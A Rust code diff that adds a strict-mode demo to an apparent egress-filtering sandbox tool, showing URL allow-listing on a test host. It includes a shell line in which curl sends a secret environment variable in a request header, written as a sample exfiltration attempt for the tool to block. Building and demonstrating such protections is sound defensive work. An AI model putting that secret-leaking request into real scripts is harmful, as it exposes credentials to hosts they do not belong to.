@@ -62,6 +62,7 @@ fn demo() -> anyhow::Result<ExitCode> {
     show_records(&audit_log);
     block_mode(&netns, &origins)?;
     inspection(&netns, &origins)?;
+    strict(&netns, &origins)?;
     // Like a shell: a signal N becomes 128 + N.
     let code = status
         .code()
@@ -163,6 +164,53 @@ fn inspection(netns: &Netns, origins: &Origins) -> anyhow::Result<()> {
             record["http"]["url"].as_str().unwrap_or("?"),
             record["http"]["status"],
             record["bytes"]["down"]
+        );
+    }
+    Ok(())
+}
+
+/// Strict mode and exfiltration in block mode: one URL prefix allowed on `tls.example`, a
+/// sibling path refused with the rule to add, and a secret kept from a host it does not belong
+/// to (named in the record, never quoted).
+fn strict(netns: &Netns, origins: &Origins) -> anyhow::Result<()> {
+    let audit_log = std::env::current_dir()?.join("warden-demo-strict.audit.jsonl");
+    let _ = std::fs::remove_file(&audit_log);
+    let ca = origins.ca_pem_path();
+    let script = "echo '== allowed: GET /releases/…'; curl -sS https://tls.example/releases/v2.tar.gz; \
+                  echo '== outside allowed-urls: GET /api/status'; curl -sS https://tls.example/api/status; \
+                  echo '== a secret in a header'; \
+                  curl -sS -H \"X-Token: $DEPLOY_KEY\" https://tls.example/releases/v3.tar.gz";
+    println!(
+        "\n$ DEPLOY_KEY=… warden run --egress-policy block --allowed-urls 'GET https://tls.example/releases/**' \\\n    \
+         --secret-env DEPLOY_KEY --upstream-ca <test CA> --audit-log {} -- sh -c <curl>\n",
+        audit_log.display()
+    );
+    let status = WardenRun::new(netns)
+        .audit_log(&audit_log)
+        .env("DEPLOY_KEY", "demo-s3cret-value-0123456789")
+        .args(["--egress-policy", "block"])
+        .args(["--allowed-urls", "GET https://tls.example/releases/**"])
+        .args(["--secret-env", "DEPLOY_KEY", "--upstream-ca"])
+        .args([ca.as_os_str()])
+        .cmd(["sh", "-c", script])
+        .command()?
+        .status()
+        .context("cannot start warden")?;
+    println!("\nwarden exited with {status}; the request records:");
+    for record in read_records(&audit_log)?
+        .iter()
+        .filter(|r| r["kind"] == "request")
+    {
+        println!(
+            "  {} {} -> {} {}: {}",
+            record["http"]["method"].as_str().unwrap_or("?"),
+            record["http"]["url"].as_str().unwrap_or("?"),
+            record["http"]["status"],
+            record["decision"].as_str().unwrap_or("?"),
+            record["rule"]
+                .as_str()
+                .or(record["reason"].as_str())
+                .unwrap_or("")
         );
     }
     Ok(())
